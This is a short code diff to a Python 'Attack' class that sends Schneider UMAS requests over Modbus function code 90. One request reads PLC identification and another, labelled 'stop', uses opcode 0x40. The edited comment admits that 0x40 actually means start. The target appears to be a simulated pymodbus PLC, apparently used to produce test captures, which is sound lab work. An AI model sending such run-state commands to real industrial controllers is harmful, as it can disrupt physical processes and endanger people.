@@ -146,7 +146,8 @@ class Attack:
 
         async def fc90(c):
             # Schneider UMAS over FC 90 (0x5A): session 0x00, 0x02 read PLC identification,
-            # then 0x40 stop PLC (the pymodbus PLC answers illegal function).
+            # then 0x40 (meant as stop PLC, but 0x40 is UMAS start PLC and 0x41 stop PLC; kept
+            # so that the committed capture matches; the pymodbus PLC answers illegal function).
             await self.req(c, "FC90 read id", lambda: c.execute(False, RawPDU(90, bytes([0x00, 0x02]), dev_id=1)))
             await self.req(c, "FC90 stop", lambda: c.execute(False, RawPDU(90, bytes([0x00, 0x40, 0xFF, 0x00]), dev_id=1)))
 
